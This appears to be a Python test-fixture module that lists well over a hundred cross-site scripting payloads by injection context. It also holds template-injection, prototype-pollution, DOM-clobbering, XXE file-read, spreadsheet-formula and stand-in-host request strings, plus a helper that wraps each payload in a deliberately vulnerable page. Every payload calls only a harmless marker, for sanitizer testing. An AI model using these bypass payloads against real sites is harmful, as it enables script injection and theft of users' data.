"""Texts that would run something on a page which trusts them.

Each is listed below the place where it does, as such a page would write it: `@@` becomes the
text, `@json@` the same as a value in a script. What runs calls `hit` (or `alert`) with the
payload's number, which stands for `§`, so a hit names it. A test shows that they really do.
"""

import base64
import json

TEXT = "@@"
DOUBLE = '<b title="@@" tabindex=1>x</b>'
SINGLE = "<b title='@@' tabindex=1>x</b>"
BARE = "<b title=@@ tabindex=1>x</b>"
HREF = '<a href="@@">x</a>'
INTO = "<p id=into></p><script>into.innerHTML = {}</script>"
MARKDOWN = "@json@.replace(/!?\\[(.*?)\\]\\((.*)\\)/, '<a href=\"$2\">$1</a>')"
BASE64 = base64.b64encode(b"<script>hit(0)</script>").decode()
LONG = "很长 " * 200

PLACES = {
    TEXT: (
        "<script>hit(§)</script>",
        "<script>alert(§)</script>",
        "<SCRIPT >hit(§)</SCRIPT >",
        "<script/x>hit(§)</script>",
        "<script\n>\nhit(§)\n</script\n>",
        "<script\f>hit(§)</script\f>",
        "<script type=module>hit(§)</script>",
        '<script src="data:text/javascript,hit(§)"></script>',
        "<svg><script>hit(§)</script></svg>",
        "<svg><script>hit&#40;§&#41;</script></svg>",
        "<<script>hit(§)//<</script>",
        "<svg onload=hit(§)>",
        "<svg/onload=hit(§)>",
        "<svg\tonload=hit(§)\t>",
        "<sVg OnLoAd=hit(§)>",
        '<svg onload="alert(§)">',
        "<svg><animate onbegin=hit(§) attributeName=x dur=1s>",
        "<svg><set onbegin=hit(§) attributeName=x dur=1s>",
        "<img src=x: onerror=hit(§)>",
        '<img src="x:" onerror="hit(§)">',
        "<img src='x:' onerror='hit(§)'>",
        '<img/src="x:"/onerror=hit(§)>',
        "<img src=x:\nonerror\n=\nhit(§)\n>",
        "<img src=x: onerror=&#104;it(§)>",
        "<img src=x: onerror=&#x68;&#x69;t(§)>",
        "<img src=x: onerror=hit&lpar;§&rpar;>",
        "<img src=x: onerror=\\u0068it(§)>",
        "<img src=x: onerror=hit`§`>",
        "<img src=x: onerror=\"window['hi'+'t'](§)\">",
        "<img src=x: onerror=\"location='javascript:hit(§)'\">",
        "<image src=x: onerror=hit(§)>",
        "<img src=x: alt='> 安全 <' onerror=hit(§)>",
        "<input type=image src=x: onerror=hit(§)>",
        "<audio src=x: onerror=hit(§)></audio>",
        "<video><source src=x: onerror=hit(§)></video>",
        "<body onload=hit(§)>",
        "<body onpageshow=hit(§)>",
        "<input autofocus onfocus=hit(§)>",
        "<b tabindex=1 onfocus=hit(§)>x</b>",
        "<b contenteditable onfocus=hit(§)>x</b>",
        "<b onclick='hit(§)'>x</b>",
        "<b onmouseover=hit(§)>x</b>",
        '<b onpointerenter="hit(§)">x</b>',
        "<details open ontoggle=hit(§)>x</details>",
        "<style onload=hit(§)></style>",
        "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=hit(§)>x</b>",
        '<link rel=stylesheet href="data:text/css," onload=hit(§)>',
        "<iframe onload=hit(§)></iframe>",
        '<iframe srcdoc="<script>hit(§)</script>"></iframe>',
        '<iframe srcdoc="&lt;script&gt;hit(§)&lt;/script&gt;"></iframe>',
        '<iframe src="javascript:hit(§)"></iframe>',
        '<iframe src="data:text/html,<script>hit(§)</script>"></iframe>',
        '<object data="data:text/html,<script>hit(§)</script>"></object>',
        '<embed src="data:text/html,<script>hit(§)</script>">',
        '<meta http-equiv=refresh content="0;url=data:text/html,<script>hit(§)</script>">',
        '<form action="javascript:hit(§)"><button>x</button></form>',
        '<form><button formaction="javascript:hit(§)">x</button></form>',
        '<form id=f§></form><button form=f§ formaction="javascript:hit(§)">x</button>',
        '<a href="javascript:hit(§)">x</a>',
        "<a href=javascript&colon;hit(§)>x</a>",
        '<a href="java&#10;script:hit(§)">x</a>',
        '<a href="&#1;javascript:hit(§)">x</a>',
        '<a href="javascript://x%0ahit(§)">x</a>',
        '<svg><a href="javascript:hit(§)"><text y=9>x</text></a></svg>',
        '<svg><a xlink:href="javascript:hit(§)"><text y=9>x</text></a></svg>',
        "<table><svg/onload=hit(§)>",
        "<!--><svg/onload=hit(§)>-->",
        "<!-- --!><svg/onload=hit(§)> -->",
        "<![CDATA[><svg/onload=hit(§)>]]>",
        "<?xml ><svg/onload=hit(§)>?>",
        "</ ><svg/onload=hit(§)>",
        "<%><svg/onload=hit(§)>%>",
        '<noscript><p title="</noscript><svg/onload=hit(§)>">',
        '<textarea><p title="</textarea><svg/onload=hit(§)>">',
        '<xmp><p title="</xmp><svg/onload=hit(§)>">',
        '<style><p title="</style><svg/onload=hit(§)>">',
        "\u202e<svg/onload=hit(§)>\u202c",
        "\u200b\ufeff<svg/onload=hit(§)>",
        "<svg/onload=hit(§)>.png",
        "../../<svg onload=hit(§)>.svg",
        LONG + "<svg/onload=hit(§)>",
    ),
    DOUBLE: (
        '"><svg/onload=hit(§)>',
        '"><script>hit(§)</script>',
        '" onmouseover="hit(§)',
        '" onclick=hit(§) x="',
        '"onclick=hit(§)//',
        '" autofocus onfocus=hit(§) x="',
        '\\"><svg/onload=hit(§)>',
        'photo.png"onclick="hit(§)',
    ),
    SINGLE: (
        "'><svg/onload=hit(§)>",
        "' onmouseover='hit(§)",
        "' onclick=hit(§) x='",
        "'onclick=hit(§)//",
    ),
    BARE: (
        "x onclick=hit(§)",
        "x\nonclick=hit(§)",
        "x><svg/onload=hit(§)>",
    ),
    HREF: (
        "javascript:hit(§)",
        "JaVaScRiPt:hit(§)",
        " \tjavascript:hit(§)",
        "java\tscript:hit(§)",
        "\x01javascript:hit(§)",
        "javascript:%68it(§)",
        "javascript://example.com/%0ahit(§)",
        "javascript:hit(§)//https://example.com/",
        "data:text/html,<script>hit(§)</script>",
        'https://example.com/"onclick="hit(§);return false',
        'https://example.com/"><svg/onload=hit(§)>',
        "#'\"><svg/onload=hit(§)>",
    ),
    "<title>@@</title>": ("</title><script>hit(§)</script>",),
    "<textarea>@@</textarea>": ("</textarea><script>hit(§)</script>",),
    "<style>b { color: @@ }</style>": (
        "red}</style><script>hit(§)</script>",
        "</style/><svg/onload=hit(§)>",
    ),
    "<!-- @@ -->": ("--><script>hit(§)</script>", "--!><script>hit(§)</script>"),
    "<svg><text><![CDATA[@@]]></text></svg>": ("]]><script>hit(§)</script>",),
    "<noscript>@@</noscript>": ("</noscript><script>hit(§)</script>",),
    "<template>@@</template>": ("</template><script>hit(§)</script>",),
    "<select><option>@@</option></select>": ("</select><script>hit(§)</script>",),
    '<script>let x = "@@";</script>': (
        '";hit(§);//',
        '"+hit(§)+"',
        '"-hit(§)-"',
        '\\\\";hit(§);//',
        "</script><svg/onload=hit(§)>",
        "</script ><script>hit(§)</script>",
    ),
    "<script>let x = '@@';</script>": ("';hit(§);//", "'-hit(§)-'", "\\\\';hit(§);//"),
    "<script>let x = `@@`;</script>": ("${hit(§)}", "`;hit(§);`"),
    "<script>// @@\n</script>": ("\nhit(§)//", "\u2028hit(§)//"),
    "<script>/* @@ */</script>": ("*/hit(§)/*",),
    '<script type=json id=j>{"x": "@@"}</script>': ("</script><script>hit(§)</script>",),
    INTO.format("decodeURIComponent(@json@)"): ("%3Csvg/onload=hit(§)%3E",),
    INTO.format("unescape(@json@)"): ("%u003csvg/onload=hit(§)%u003e",),
    INTO.format("JSON.parse('\"' + @json@ + '\"')"): ("\\u003csvg/onload=hit(§)\\u003e",),
    INTO.format("@json@.normalize('NFKC')"): (
        "＜svg/onload=hit(§)＞",
        "﹤svg/onload=hit(§)﹥",
    ),
    INTO.format("@json@.replace(/[\\p{Cc}\\p{Cf}]/gu, '')"): (
        "<sv\0g/onload=hit(§)>",
        "<sv\u200bg/onl\u200boad=hit(§)>",
        "<sv\u202eg/onload=hit(§)>",
        "<\u00adsvg/onload=hit(§)>",
    ),
    INTO.format("@json@.replace(/script|onload/g, '')"): ("<svg/ononloadload=hit(§)>",),
    "<p id=from>@@</p>" + INTO.format("document.getElementById('from').textContent"): (
        "&lt;svg/onload=hit(§)&gt;",
        "&#60;svg/onload=hit(§)&#62;",
        "&LT;svg/onload=hit(§)&GT;",
    ),
    INTO.format(MARKDOWN): (
        "[x](javascript:hit(§))",
        "[x](java&#9;script:hit(§))",
        '![x](y" onclick="hit(§);return false)',
    ),
    "<script>@json@.replace(/{{(.*?)}}/, (_, code) => new Function(code)())</script>": (
        "{{hit(§)}}",
        "{{ hit(§) }}",
        "{{constructor.constructor('hit(§)')()}}",
    ),
    "<p id=one></p><p id=two></p><script>one.innerHTML = @json@;"
    " two.innerHTML = one.innerHTML</script>": (
        # Harmless when it is parsed once.
        "<math><mtext><table><mglyph><style><!--</style><style>--><img src=x: onerror=hit(§)>"
        "</style>",
    ),
}

ELSEWHERE = (
    # For filters, engines and browsers that this one is not; and what does harm without running.
    "{% include 'hit(§)' %}",
    "{% load static %}{% debug %}hit(§)",
    "#{hit(§)} <%= hit(§) %> {{=hit(§)}} @{hit(§)}",
    "%(name)s %s %(hit(§))s",
    "{name} {0.__class__} {constructor} {toString} hit(§)",
    "__proto__ hit(§)",
    "constructor.prototype hit(§)",
    '{"__proto__": {"innerHTML": "<svg/onload=hit(§)>"}}',
    '<base href="//hit.example/§/">',
    '<base href="javascript:/a/-hit(§)///////"><a href="x">x</a>',
    '<link rel=stylesheet href="//hit.example/§">',
    '<link rel=preconnect href="//hit.example" x="hit(§)">',
    '<meta http-equiv=refresh content="0;url=//hit.example/§">',
    '<meta http-equiv=refresh content="0;url=javascript:hit(§)">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\" x='hit(§)'>",
    "<style>@import '//hit.example/§';</style>",
    '<b style="background:url(//hit.example/§)">x</b>',
    '<b style="width:expression(hit(§))">x</b>',
    "red;background:url(//hit.example/§)",
    '<img src="//hit.example/§">',
    '<form action="//hit.example/§"><input name=content value="hit(§)"></form>',
    '<form id=composer x="hit(§)"><input name=action><input name=elements></form>',
    '<img name=querySelector x="hit(§)"><img name=body x="hit(§)">',
    '<a id=Kefu x="hit(§)"></a><a id=Kefu name=open x="hit(§)" href="//hit.example/§"></a>',
    '<i data-key="you" x="hit(§)">hit</i><template id=page-texts x="hit(§)"></template>',
    '<b class="messages" id="content" x="hit(§)">x</b>',
    "<object data='javascript:hit(§)'></object><embed src='javascript:hit(§)'>",
    "<marquee onstart=hit(§)>x</marquee>",
    "<isindex type=image src=x: onerror=hit(§)>",
    "` onmouseover=hit(§) x=`",
    "vbscript:hit(§)",
    "view-source:javascript:hit(§)",
    "<javascript:hit(§)> [x]: javascript:hit(§)",
    f"data:text/html;base64,{BASE64} hit(§)",
    "https://[<svg/onload=hit(§)>]/ http://x:y@<svg/onload=hit(§)>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///hit(§)'>]><x>&e;</x>",
    "<?xml-stylesheet href='javascript:hit(§)'?>",
    '=HYPERLINK("javascript:hit(§)")',
    "<!--<script>hit(§)",
    "<plaintext x='hit(§)'>",
)

LISTED = [(place, text) for place, texts in PLACES.items() for text in texts]
PAYLOADS = [
    text.replace("§", str(number))
    for number, text in enumerate([*(text for _place, text in LISTED), *ELSEWHERE])
]
"""All of them; each one's number is its place in this list."""
WHOLE = "\n".join(PAYLOADS)
"""All in one text, where a page shows only one: what one of them swallows is behind it."""


def naive(number: int) -> str:
    """A page that trusts this payload, which must be one of `LISTED`."""
    place, text = LISTED[number][0], PAYLOADS[number]
    value = json.dumps(text).replace("<", "\\u003c")
    return f"<!doctype html><body>{place.replace('@json@', value).replace('@@', text)}"
